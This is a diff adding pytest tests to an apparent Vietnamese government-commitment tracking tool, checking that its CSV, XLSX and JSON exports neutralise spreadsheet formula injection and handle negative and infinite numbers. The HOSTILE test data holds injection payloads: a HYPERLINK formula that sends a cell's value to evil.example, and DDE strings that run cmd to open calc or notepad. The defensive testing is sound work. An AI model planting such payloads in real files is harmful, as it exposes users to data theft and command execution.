@@ -139,3 +139,166 @@ def test_format_from_the_out_suffix(tmp_path: Path):
     assert r.exit_code == 0 and (tmp_path / "bang.csv").read_bytes().startswith(b"\xef\xbb\xbf")
     r = run("export", "2019", "--data", EMBEDDED_DATA, "--out", tmp_path / "bang.txt")
     assert r.exit_code == 1 and "'txt'" in r.stderr and not (tmp_path / "bang.txt").exists()
+
+
+# --- texts that look like formulas --------------------------------------------------------
+
+HOSTILE = {
+    "item": '=HYPERLINK("http://evil.example/?d="&A2,"Chi tiết")',
+    "note": "+cmd|' /C calc'!A0",
+    "reason": "-2+3+cmd|' /C notepad'!'A1'",
+    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "block": "\t=1+1",
+    "group": "\r=2+2",
+    "indicator": "=1+1",
+    "measure": "=A1*10",
+}
+
+
+def hostile_folder(mini: Path) -> Path:
+    """Every kind of text a row carries, each starting like a formula; and negative numbers."""
+
+    def edit(rel: str, old: str, new: str) -> None:
+        path = mini / rel
+        text = path.read_text(encoding="utf-8")
+        assert old in text, old
+        path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+    quoted = {k: json.dumps(v, ensure_ascii=False) for k, v in HOSTILE.items()}
+    dong_ha = "2019/commitments/dong-ha.yaml"
+    edit(
+        dong_ha,
+        "text: Hoàn thành giải phóng mặt bằng đường Hùng Vương kéo dài",
+        "text: " + quoted["item"],
+    )
+    edit(
+        dong_ha,
+        "- {date: 2019-06-20, status: done}",
+        "- {date: 2019-06-20, status: done, note: " + quoted["note"] + "}",
+    )
+    edit(dong_ha, "title: Phát triển kinh tế - xã hội", "title: " + quoted["group"])
+    edit(
+        "2019/commitments/so-xay-dung.yaml",
+        "reason: Tích hợp vào Quy hoạch tỉnh",
+        "reason: " + quoted["reason"],
+    )
+    edit(
+        "2019/commitments/so-xay-dung.yaml",
+        '{plan: 31, actual: 31.2, unit: "%"}',
+        "{plan: -5, actual: -3.5, unit: " + quoted["measure"] + ", better: lower}",
+    )
+    edit("units.yaml", "name: Huyện ủy Cam Lộ", "name: " + quoted["unit"])
+    edit("units.yaml", "name: Các sở, ngành", "name: " + quoted["block"])
+    edit("2019/year.yaml", "name: Tỷ lệ hộ nghèo,", "name: " + quoted["indicator"] + ",")
+    edit("2019/year.yaml", "plan: 7.6, actual: 7.05", "plan: -7.6, actual: -7.05")
+    assert run("validate", "--data", mini).exit_code == 0
+    return mini
+
+
+def test_xlsx_texts_are_never_formulas(mini: Path, tmp_path: Path):
+    hostile_folder(mini)
+    out = tmp_path / "x.xlsx"
+    r = run("export", "2019", "--data", mini, "--out", out)
+    assert r.exit_code == 0, r.stderr
+    book = openpyxl.load_workbook(out)
+    texts = set()
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if not isinstance(cell.value, str):
+                    continue
+                texts.add(cell.value.strip(" "))
+                assert cell.data_type == "s", (sheet.title, cell.coordinate)
+                if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
+                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
+    assert set(HOSTILE.values()) <= texts
+    # the file itself: no formula anywhere, every text that starts like one an inline string
+    from lxml import etree
+
+    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+    starts = 0
+    with zipfile.ZipFile(out) as z:
+        for name in z.namelist():
+            if not name.startswith("xl/worksheets/sheet"):
+                continue
+            root = etree.fromstring(z.read(name))
+            assert root.find(f".//{main}f") is None, name
+            for c in root.iter(f"{main}c"):
+                text = "".join(c.itertext())
+                if c.get("t") == "n":
+                    float(text)  # a number cell holds a number, negative ones included
+                elif text.startswith(("=", "+", "-", "@", "\t", "\r")):
+                    starts += 1
+                    assert c.get("t") == "inlineStr", (name, c.get("r"), text)
+    assert starts >= len(HOSTILE)
+    # negative numbers are numbers
+    items = book["Nội dung cam kết"]
+    headers = [c.value for c in items[1]]
+    plans = [row[headers.index("Chỉ tiêu KH")] for row in items.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type) for c in plans if c.value is not None] == [(-5.0, "n")]
+    ratios = [row[3].value for row in book["Chỉ tiêu"].iter_rows(min_row=2)]
+    assert -7.6 in ratios
+
+
+def test_csv_texts_start_with_a_quote_numbers_do_not(mini: Path, tmp_path: Path):
+    hostile_folder(mini)
+    out = tmp_path / "x.csv"
+    r = run("export", "2019", "--data", mini, "--format", "csv", "--out", out)
+    assert r.exit_code == 0, r.stderr
+    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    for text in HOSTILE.values():
+        if text in ("=1+1",):  # the indicator's name is not in the items' rows
+            continue
+        assert "'" + text in cells, text
+        assert text not in cells, text
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    headers = rows[0]
+    plan = [
+        row[headers.index("Chỉ tiêu KH")] for row in rows[1:] if row[headers.index("Chỉ tiêu KH")]
+    ]
+    assert plan == ["-5"]  # a number, as Excel reads it: no quote
+    assert [
+        row[headers.index("Chỉ tiêu TH")] for row in rows[1:] if row[headers.index("Chỉ tiêu TH")]
+    ] == ["-3,5"]
+
+
+def test_an_id_cannot_start_like_a_formula(mini: Path, tmp_path: Path):
+    path = mini / "2019/commitments/cam-lo.yaml"
+    path.write_text(
+        path.read_text(encoding="utf-8").replace("id: cam-lo-2019-01", 'id: "-1+cam-lo"'),
+        encoding="utf-8",
+    )
+    r = run("export", "2019", "--data", mini, "--format", "csv", "--out", tmp_path / "x.csv")
+    assert r.exit_code == 1 and "[E019]" in r.stderr and not (tmp_path / "x.csv").exists()
+
+
+def _strict(name: str) -> None:
+    raise ValueError(f"not JSON: {name}")
+
+
+def test_json_outputs_are_strict_json(mini: Path, tmp_path: Path):
+    """Python's json.loads reads NaN and Infinity; no other JSON reader does."""
+    hostile_folder(mini)
+    out = tmp_path / "x.json"
+    assert run("export", "2019", "--data", mini, "--format", "json", "--out", out).exit_code == 0
+    body = json.loads(out.read_text(encoding="utf-8"), parse_constant=_strict)
+    assert {r["text"] for r in body["items"]} >= {HOSTILE["item"]}
+    for args in (
+        ("status", "2019", "--json"),
+        ("status", "2019", "--json", "--compare", "2019-03-31"),
+        ("validate", "--json"),
+    ):
+        r = run(*args, "--data", mini)
+        assert r.exit_code == 0, (args, r.stderr)
+        json.loads(r.stdout, parse_constant=_strict)
+    path = mini / "2019/year.yaml"
+    path.write_text(
+        path.read_text(encoding="utf-8").replace("plan: 2200", "plan: .inf"), encoding="utf-8"
+    )
+    for fmt in ("json", "csv", "xlsx"):
+        r = run("export", "2019", "--data", mini, "--format", fmt, "--out", tmp_path / f"y.{fmt}")
+        assert r.exit_code == 1 and "[E015]" in r.stderr
+    r = run("validate", "--data", mini, "--json")
+    assert r.exit_code == 1
+    assert [p["code"] for p in json.loads(r.stdout, parse_constant=_strict)] == ["E015"]
